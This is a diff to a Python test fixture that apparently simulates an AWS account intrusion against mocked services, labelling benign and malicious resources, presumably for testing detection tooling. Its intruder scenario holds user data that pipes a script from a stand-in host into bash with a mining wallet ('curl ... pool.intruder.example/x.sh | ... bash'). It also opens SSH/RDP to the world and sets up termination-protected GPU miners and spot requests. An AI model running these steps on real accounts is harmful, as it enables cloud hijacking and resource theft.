@@ -5,15 +5,10 @@ from __future__ import annotations
 from typing import Any
 
 from .account import ACCOUNT, HOME, INTRUDER, MINING, OPT_IN, OPT_IN_MINING, SECOND, Caller, Story, encoded, role
+from .identity import SSH_KEY
 
+IMAGE = "ami-12c6146b"  # moto has it in every region
 WORLD = [{"CidrIp": "0.0.0.0/0"}]
-
-
-def image(caller: Caller, region: str) -> str:
-    found = caller("ec2", region).describe_images(Filters=[{"Name": "name", "Values": ["*amzn*"]}])["Images"]
-    if found:
-        return min(item["ImageId"] for item in found)
-    return caller("ec2", region).register_image(Name="base", Architecture="x86_64", RootDeviceName="/dev/sda1")["ImageId"]
 
 
 def network(caller: Caller, region: str) -> str:
@@ -34,7 +29,7 @@ def ordinary(story: Story) -> None:
         story.good("security-group", region, "ec2", "DescribeSecurityGroups", made)
         data = f"#!/bin/sh\nexport API_TOKEN={story.simple_secret(f'user-data:{region}')}\n"
         instances = story.operator("ec2", region).run_instances(
-            ImageId=image(story.operator, region), MinCount=count, MaxCount=count, InstanceType="t3.medium", SecurityGroupIds=[made], UserData=data,
+            ImageId=IMAGE, MinCount=count, MaxCount=count, InstanceType="t3.medium", SecurityGroupIds=[made], UserData=data,
             IamInstanceProfile={"Name": "app-server"}, MetadataOptions={"HttpTokens": "required", "HttpEndpoint": "enabled"})["Instances"]
         for instance in instances:
             story.good("instance", region, "ec2", "DescribeInstances", instance["InstanceId"])
@@ -50,17 +45,16 @@ def miners(story: Story, region: str) -> None:
     ec2 = story.intruder("ec2", region)
     wide = group(story.intruder, region, "launch-wizard-1", (22, 3389))
     story.bad("security-group", region, "ec2", "DescribeSecurityGroups", wide)
-    key = ec2.create_key_pair(KeyName="mykey")
-    story.secret(f"private-key:{region}", key["KeyMaterial"])
+    key = ec2.import_key_pair(KeyName="mykey", PublicKeyMaterial=SSH_KEY.encode())
     story.bad("key-pair", region, "ec2", "DescribeKeyPairs", key["KeyPairId"])
     wallet = story.simple_secret(f"wallet:{region}")
     data = f"#!/bin/bash\ncurl -s http://pool.intruder.example/x.sh | WALLET={wallet} bash\n"
     for instance in ec2.run_instances(
-            ImageId=image(story.intruder, region), MinCount=2, MaxCount=2, InstanceType="p3.16xlarge", KeyName="mykey", SecurityGroupIds=[wide],
+            ImageId=IMAGE, MinCount=2, MaxCount=2, InstanceType="p3.16xlarge", KeyName="mykey", SecurityGroupIds=[wide],
             UserData=data, MetadataOptions={"HttpTokens": "optional", "HttpEndpoint": "enabled"})["Instances"]:
         ec2.modify_instance_attribute(InstanceId=instance["InstanceId"], DisableApiTermination={"Value": True})
         story.bad("instance", region, "ec2", "DescribeInstances", instance["InstanceId"])
-    launch = {"InstanceType": "p3.16xlarge", "ImageId": image(story.intruder, region), "UserData": encoded(data)}
+    launch = {"InstanceType": "p3.16xlarge", "ImageId": IMAGE, "UserData": encoded(data)}
     template = ec2.create_launch_template(LaunchTemplateName="worker", LaunchTemplateData=launch)["LaunchTemplate"]["LaunchTemplateId"]
     story.bad("launch-template", region, "ec2", "DescribeLaunchTemplates", template)
     zone = ec2.describe_availability_zones()["AvailabilityZones"][0]["ZoneName"]
@@ -73,7 +67,7 @@ def miners(story: Story, region: str) -> None:
 def spot(story: Story) -> None:
     ec2 = story.intruder("ec2", MINING)
     request = ec2.request_spot_instances(SpotPrice="9.0", LaunchSpecification={
-        "ImageId": image(story.intruder, MINING), "InstanceType": "g4dn.xlarge"})["SpotInstanceRequests"][0]
+        "ImageId": IMAGE, "InstanceType": "g4dn.xlarge"})["SpotInstanceRequests"][0]
     story.bad("spot-request", MINING, "ec2", "DescribeSpotInstanceRequests", request["SpotInstanceRequestId"])
 
 
@@ -133,7 +127,5 @@ def network_changes(story: Story) -> None:
 
 
 def intrusion(story: Story) -> None:
-    for region in (MINING, OPT_IN_MINING):
-        miners(story, region)
-    for chapter in (spot, containers, clusters, sharing, network_changes):
-        chapter(story)
+    story.play(lambda told: miners(told, MINING), lambda told: miners(told, OPT_IN_MINING))
+    story.play(spot, containers, clusters, sharing, network_changes)
